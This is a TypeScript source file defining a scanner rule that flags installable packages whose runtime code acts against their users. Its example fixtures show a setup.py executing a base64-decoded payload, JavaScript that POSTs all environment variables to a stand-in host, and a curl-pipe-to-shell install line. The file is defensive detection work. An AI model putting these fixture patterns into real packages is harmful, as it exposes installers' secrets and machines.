import type { RepositoryCheck } from '../../check.ts';
import type { FileSummary } from '../../facts/repository-facts.ts';
import type { Role } from '../../inventory/roles.ts';
import { type HostilePlace, hostilePlaces } from '../../knowledge/hostile-places.ts';

/** A folder with one of these is something people install. */
const MAKES_A_PACKAGE: ReadonlySet<Role | undefined> = new Set(['npm-manifest', 'python-manifest', 'setup-script']);
/** What stands beside the code of a Python package once it is built. */
const BUILT = /\.(?:dist|egg)-info\/(?:METADATA|PKG-INFO|WHEEL)$|(?:^|\/)PKG-INFO$/;

/** What whoever works on the project runs, and no package holds. */
const FOR_DEVELOPERS = /(?:^|\/)\.(?:devcontainer|agents|github|gitlab|circleci|buildkite)\//;

/** More places than these that each could be honest are no longer honest together. */
const MOST_HONEST = 4;

export const check: RepositoryCheck = {
  id: 'supply-chain-hostile-package',
  title: 'Installing this package hands the machine to its author',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    Code of the package that runs at install, at import or in use was seen to act against whoever runs it. The other findings
    say where and how; this one says what follows for the package as a whole.`,
  fix: `
    Do not install it. Where it was installed, treat the machine as compromised: change every credential it could read.`,
  blindSpots:
    'Only acts that are visible in the code count; a payload that is fetched later is known by its fetching alone.',
  over: 'repository',
  examples: {
    bad: [
      {
        'setup.py': `
          import base64
          from setuptools import setup
          «exec(base64.b64decode('cHJpbnQoImhlbGxvIHdvcmxkIGZyb20gYSBoaWRkZW4gcGxhY2UiKQ=='))»
          setup(name='helper')`,
      },
      {
        'package.json': '{"name": "helper", "version": "1.0.0"}',
        'index.js': `
          const https = require('https');
          const request = https.request({ host: 'collect.acme.io', method: 'POST' });
          «request.write(JSON.stringify(process.env))»;
          request.end();`,
      },
    ],
    good: [
      {
        'package.json': '{"name": "helper", "version": "1.0.0"}',
        '.devcontainer/setup.sh': 'curl -fsSL https://raw.githubusercontent.com/acme/cli/main/install.sh | sh\n',
      },
      {
        'package.json': '{"name": "helper", "version": "1.0.0"}',
        '.agents/setup.sh': 'cat >> "$HOME/.bash_profile" <<EOF\nnvm use\nEOF\n',
      },
      { 'setup.py': "from setuptools import setup\nsetup(name='helper')" },
      {
        'package.json': '{"name": "helper", "version": "1.0.0"}',
        'index.js': "const key = process.env.API_KEY;\nfetch('https://api.acme.io', { headers: { key } });",
      },
    ],
  },

  *find(repository) {
    if (!repository.files.some(makesAPackage)) return;
    const contexts = new Map(repository.files.map((file) => [file.path, file.context]));
    const places = hostilePlaces(repository).filter(
      ({ at, confidence }) =>
        confidence !== 'low' && contexts.get(at.file) === 'runtime' && !FOR_DEVELOPERS.test(at.file),
    );
    const worst =
      places.find(({ confidence }) => confidence === 'high') ?? places.find(({ isTouch }) => !isTouch) ?? places[0];
    if (worst === undefined) return;
    const isSure = worst.confidence === 'high';
    yield {
      at: worst.at,
      message: `The package ${isSure ? 'acts' : 'may act'} against whoever runs it. ${worst.message}`,
      confidence: worst.confidence,
      // One step that honest programs take as well is a reason to look, not to condemn the whole.
      severity: isSure || kindsOf(places) > MOST_HONEST ? 'critical' : worst.isTouch ? 'medium' : 'high',
    };
  },
};

/** Lines of one file that do the same are one step. */
function kindsOf(places: readonly HostilePlace[]): number {
  return new Set(places.map(({ at, message }) => `${at.file}\0${message}`)).size;
}

function makesAPackage({ role, path }: FileSummary): boolean {
  return MAKES_A_PACKAGE.has(role) || BUILT.test(path);
}
